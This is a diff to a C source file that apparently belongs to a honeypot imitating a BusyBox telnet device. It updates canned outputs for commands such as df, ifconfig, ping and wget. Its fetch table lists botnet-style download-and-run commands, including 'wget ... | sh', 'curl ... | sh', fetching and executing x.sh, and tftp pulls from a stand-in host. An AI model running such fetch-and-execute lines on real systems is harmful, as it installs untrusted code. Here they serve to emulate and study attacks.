@@ -211,16 +211,16 @@ static const struct talk machine_talks[] = {
     {"mount /dev/sda1 /tmp", "mount: mounting /dev/sda1 on /tmp failed: No such file or directory\n=255\n"},
     {"umount /tmp", "umount: can't unmount /tmp: Device or resource busy\n=1\n"},
     {"umount /nox", "umount: can't unmount /nox: No such file or directory\n=1\n"},
-    {"df", "Filesystem           1K-blocks      Used Available Use% Mounted on\n/dev/root                 4608      4608         0 100% /\ntmpfs     "
-           "               30976        88     30888   0% /tmp\n=0\n"},
+    {"df", "Filesystem           1K-blocks      Used Available Use% Mounted on\n/dev/root                 9728      9728         0 100% /\ntmpfs     "
+           "               30976        32     30944   0% /tmp\n=0\n"},
     {"lsmod", "Module                  Size  Used by    Not tainted\nusbcore               126592  1 \n=0\n"},
     {"insmod nox.ko", "insmod: can't insert 'nox.ko': No such file or directory\n=1\n"},
     {"sysctl kernel.hostname", "kernel.hostname = device\n=0\n"},
     {"sysctl kernel.nox", "sysctl: error: 'kernel/nox' is an unknown key\n=1\n"},
     {"ifconfig eth0", "eth0      Link encap:Ethernet  HWaddr 00:12:34:56:78:9A  \n          inet addr:192.0.2.20  Bcast:192.0.2.255  "
-                      "Mask:255.255.255.0\n          UP BROADCAST RUNNING MULTICAST  MTU:1500  Metric:1\n          RX packets:1138630 errors:0 "
-                      "dropped:0 overruns:0 frame:0\n          TX packets:613164 errors:0 dropped:0 overruns:0 carrier:0\n          collisions:0 "
-                      "txqueuelen:1000 \n          RX bytes:248221340 (236.7 MiB)  TX bytes:210928416 (201.2 MiB)\n\n=0\n"},
+                      "Mask:255.255.255.0\n          UP BROADCAST RUNNING MULTICAST  MTU:1500  Metric:1\n          RX packets:1897637 errors:0 "
+                      "dropped:0 overruns:0 frame:0\n          TX packets:1021860 errors:0 dropped:0 overruns:0 carrier:0\n          collisions:0 "
+                      "txqueuelen:1000 \n          RX bytes:413684866 (394.5 MiB)  TX bytes:351519840 (335.2 MiB)\n          Interrupt:28 \n\n=0\n"},
     {"ifconfig eth9", "ifconfig: eth9: error fetching interface information: Device not found\n=1\n"},
     {"route -n",
      "Kernel IP routing table\nDestination     Gateway         Genmask         Flags Metric Ref    Use Iface\n192.0.2.0       0.0.0.0         "
@@ -229,13 +229,13 @@ static const struct talk machine_talks[] = {
              "127.0.0.1/8 scope host lo\n2: eth0: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc pfifo_fast qlen 1000\n    link/ether "
              "00:12:34:56:78:9a brd ff:ff:ff:ff:ff:ff\n    inet 192.0.2.20/24 brd 192.0.2.255 scope global eth0\n=0\n"},
     {"ip r", "default via 192.0.2.1 dev eth0 \n192.0.2.0/24 dev eth0  src 192.0.2.20 \n=0\n"},
-    {"arp", "? (192.0.2.1) at 00:1d:aa:f6:39:c5 [ether]  on eth0\n=0\n"},
+    {"arp", "? (192.0.2.1) at 00:1d:aa:4d:53:f4 [ether]  on eth0\n=0\n"},
     {"netstat -tln", "Active Internet connections (only servers)\nProto Recv-Q Send-Q Local Address           Foreign Address         State       "
                      "\ntcp        0      0 0.0.0.0:23              0.0.0.0:*               LISTEN      \n=0\n"},
     {"ping -c 1 192.0.2.9",
-     "PING 192.0.2.9 (192.0.2.9): 56 data bytes\n64 bytes from 192.0.2.9: seq=0 ttl=52 time=193.239 ms\n\n--- 192.0.2.9 ping statistics ---\n1 "
-     "packets transmitted, 1 packets received, 0% packet loss\nround-trip min/avg/max = 193.239/194.039/195.138 ms\n=0\n"},
-    {"nslookup a.example", "Server:    192.0.2.53\nAddress 1: 192.0.2.53\n\nName:      a.example\nAddress 1: 198.18.94.232\n=0\n"},
+     "PING 192.0.2.9 (192.0.2.9): 56 data bytes\n64 bytes from 192.0.2.9: seq=0 ttl=52 time=90.333 ms\n\n--- 192.0.2.9 ping statistics ---\n1 "
+     "packets transmitted, 1 packets received, 0% packet loss\nround-trip min/avg/max = 90.333/91.133/92.232 ms\n=0\n"},
+    {"nslookup a.example", "Server:    192.0.2.53\nAddress 1: 192.0.2.53\n\nName:      a.example\nAddress 1: 198.18.42.245\n=0\n"},
     {"which ls nox", "/bin/ls\n=1\n"},
     {"which busybox", "/bin/busybox\n=0\n"},
     {"busybox nox", "nox: applet not found\n=127\n"},
@@ -272,13 +272,13 @@ static const struct talk machine_talks[] = {
 
 static const struct talk fetch_talks[] = {
     {"wget http://198.51.100.7/bins/x.sh; ls -l x.sh | cut -c1-43; ./x.sh; chmod +x x.sh; ./x.sh; sh x.sh",
-     "Connecting to 198.51.100.7 (198.51.100.7:80)\n\015x.sh                 100% |*******************************|  2208  00:00:00 ETA\n-rw-r--r--  "
-     "  1 root     root          2208\n-sh: ./x.sh: Permission denied\n=0\n"},
+     "Connecting to 198.51.100.7 (198.51.100.7:80)\n\015x.sh                 100% |*******************************|  1670  00:00:00 ETA\n-rw-r--r--  "
+     "  1 root     root          1670\n-sh: ./x.sh: Permission denied\n=0\n"},
     {"wget http://198.51.100.7/x; wget http://198.51.100.7/x",
-     "Connecting to 198.51.100.7 (198.51.100.7:80)\n\015x                    100% |*******************************| 90695  00:00:00 ETA\nConnecting "
+     "Connecting to 198.51.100.7 (198.51.100.7:80)\n\015x                    100% |*******************************|  101k 00:00:00 ETA\nConnecting "
      "to 198.51.100.7 (198.51.100.7:80)\nwget: can't open 'x': File exists\n=1\n"},
     {"wget http://198.51.100.7:8080/x?a=1 -O y; head -c 4 y | hexdump -C",
-     "Connecting to 198.51.100.7 (198.51.100.7:8080)\n\015y                    100% |*******************************| 81417  00:00:00 ETA\n00000000  "
+     "Connecting to 198.51.100.7 (198.51.100.7:8080)\n\015y                    100% |*******************************| 98813  00:00:00 ETA\n00000000  "
      "7f 45 4c 46                                       |.ELF|\n00000004\n=0\n"},
     {"wget -q -O - http://198.51.100.7/x | sh", "=0\n"},
     {"wget https://x.example/x", "wget: not an http or ftp url: https://x.example/x\n=1\n"},
@@ -286,15 +286,15 @@ static const struct talk fetch_talks[] = {
      "Connecting to 198.51.100.7 (198.51.100.7:80)\nwget: can't open '/nowhere/x': No such file or directory\n=1\n"},
     {"wget http://198.51.100.7/x -O /etc/x", "Connecting to 198.51.100.7 (198.51.100.7:80)\nwget: can't open '/etc/x': Read-only file system\n=1\n"},
     {"wget http://x.example/",
-     "Connecting to x.example (198.19.220.171:80)\n\015index.html           100% |*******************************| 54261  00:00:00 ETA\n=0\n"},
+     "Connecting to x.example (198.19.149.224:80)\n\015index.html           100% |*******************************| 73344  00:00:00 ETA\n=0\n"},
     {"wget 198.51.100.7/x",
-     "Connecting to 198.51.100.7 (198.51.100.7:80)\n\015x                    100% |*******************************| 90695  00:00:00 ETA\n=0\n"},
+     "Connecting to 198.51.100.7 (198.51.100.7:80)\n\015x                    100% |*******************************|  101k 00:00:00 ETA\n=0\n"},
     {"wget 2>&1 | sed -n 3p", "Usage: wget [-c|--continue] [-s|--spider] [-q|--quiet] [-O|--output-document FILE]\n=0\n"},
     {"curl -s -O http://198.51.100.7/x; ls x", "x\n=0\n"},
     {"curl http://198.51.100.7/x | sh",
      "  % Total    % Received % Xferd  Average Speed   Time    Time     Time  Current\n                                 Dload  Upload   Total   "
-     "Spent    Left  Speed\n\015  0     0    0     0    0     0      0      0 --:--:-- --:--:-- --:--:--     0\015100 90695  100 90695    0     0  "
-     "181390      0 --:--:-- --:--:-- --:--:-- 181390\n=0\n"},
+     "Spent    Left  Speed\n\015  0     0    0     0    0     0      0      0 --:--:-- --:--:-- --:--:--     0\015100 103816  100 103816    0     0  "
+     "207632      0 --:--:-- --:--:-- --:--:-- 207632\n=0\n"},
     {"curl", "curl: try 'curl --help' or 'curl --manual' for more information\n=2\n"},
     {"tftp -g -r x 198.51.100.7; ls x", "x\n=0\n"},
     {"tftp -g -l y -r dir/x 198.51.100.7; ls y", "y\n=0\n"},
